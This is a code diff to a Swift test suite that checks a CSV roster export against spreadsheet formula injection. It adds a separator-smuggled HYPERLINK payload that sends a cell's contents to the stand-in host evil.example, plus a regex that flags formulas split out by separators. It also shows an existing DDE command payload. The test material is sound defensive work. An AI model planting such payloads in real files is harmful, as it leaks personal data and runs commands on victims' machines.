@@ -121,7 +121,7 @@ struct HostileFieldTests {
             func quoted(_ text: String) -> String { "\"" + text.replacing(scalars: "\"", with: "\"\"") + "\"" }
             let formulas = [
                 "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0", "＝1+1", "=HYPERLINK(\"https://evil.example\",\"x\")",
-                "x\"\u{301},=1+1",
+                "x\"\u{301},=1+1", "x;=HYPERLINK(\"https://evil.example\"&A2;\"Lyon\");y",
             ]
             let all = texts + formulas
             var roster = "key,given_name,family_name,email,city\n"
@@ -146,6 +146,9 @@ struct HostileFieldTests {
                     let cell = record[field]
                     if let first = cell.unicodeScalars.first, "=+-@\t\r＝＋－＠".unicodeScalars.contains(first) {
                         Issue.record("a spreadsheet computes \(cell.debugDescription)")
+                    }
+                    if cell.contains(/[;,|\t\r\n][ "]*[=+@-]/) {
+                        Issue.record("a spreadsheet that splits it computes \(cell.debugDescription)")
                     }
                     if cell.hasPrefix("'") { neutral += 1 }
                 }
